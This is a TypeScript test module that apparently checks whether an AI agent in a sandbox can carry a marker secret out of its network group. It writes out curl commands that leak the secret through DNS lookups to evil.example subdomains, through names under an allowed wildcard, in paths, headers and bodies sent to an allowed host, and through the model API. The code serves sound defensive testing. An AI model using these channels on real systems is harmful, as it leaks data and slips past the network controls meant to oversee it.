/**
 * What an agent can carry out of its group by the ways that it has: names, addresses, the model.
 * Here the internet is a double that tells what reached it.
 */

import type { Internet } from '../internet/internet.ts';
import type { WebHost } from '../internet/web-host.ts';
import type { App } from '../support/app.ts';
import type { Check } from './check.ts';

const area = 'exfiltration';

/** The double, where mallory's group may reach `listed.example` and `*.wild.example`. */
export interface Outside {
  internet: Internet;
  listed: WebHost;
  app: App;
}

/** What an agent tries, and whether it reached anybody: the double's word counts. */
export interface Exfiltration extends Check {
  reached: (outside: Outside) => boolean;
}

const secretWord = 'carried-out-0123456789';

/** Whatever is answered; what reached whom is asked elsewhere. */
const tries = (urls: string[]) => ({
  language: 'bash' as const,
  code: `${urls.map((url) => `curl -s -m 10 "${url}" -o answer -w '%{http_code} %{http_connect}\\n'`).join('\n')}\ntrue`,
});
const asked = ({ internet }: Outside) =>
  internet.names.queries.some((query) => query.includes(secretWord));

export const exfiltrationChecks: Exfiltration[] = [
  {
    id: 'names-not-listed',
    area,
    says: 'carry anything to a name server by the names of hosts that its group may not reach',
    program: tries([
      `http://${secretWord}.evil.example/`,
      `https://${secretWord}.evil.example/`,
      `http://${secretWord}.listed.example.evil.example/`,
      `https://${secretWord}.example:8443/`,
    ]),
    reached: asked,
  },
  {
    id: 'names-below-wildcard',
    area,
    says: 'carry anything to a name server by names below a host that is allowed as `*.`',
    open: {
      any: 'Each name is looked up, and whoever answers for that domain sees it. Allow hosts by their full names where that matters.',
    },
    program: tries([`https://${secretWord}.wild.example/`]),
    reached: asked,
  },
  {
    id: 'paths-of-allowed',
    area,
    says: 'carry anything to a host that is allowed, in a path, a header or a body',
    open: {
      any: 'What is said inside a permitted connection is not read, and with HTTPS cannot be. Allow only hosts whose owners may know what the group knows; /egress tells how many bytes went.',
    },
    program: {
      language: 'bash',
      code: `curl -s -m 10 "http://listed.example/${secretWord}" -H "x-more: ${secretWord}" -d "${secretWord}" -w '%{http_code}\\n'`,
    },
    reached: ({ listed }) => listed.requests.some(({ path }) => path.includes(secretWord)),
  },
  {
    id: 'model-api',
    area,
    says: 'carry anything to the model’s API',
    open: {
      any: 'The conversation itself goes there, with all that the agent puts into it. It goes with your own credential, and nowhere else.',
    },
    program: {
      language: 'bash',
      code: `curl -s -m 10 "$ANTHROPIC_BASE_URL/v1/messages" -d '{"model":"m","messages":[{"role":"user","content":"${secretWord}"}]}' -w '%{http_code}\\n'`,
    },
    reached: ({ app }) => app.model.calls.some(({ said }) => said === secretWord),
  },
];
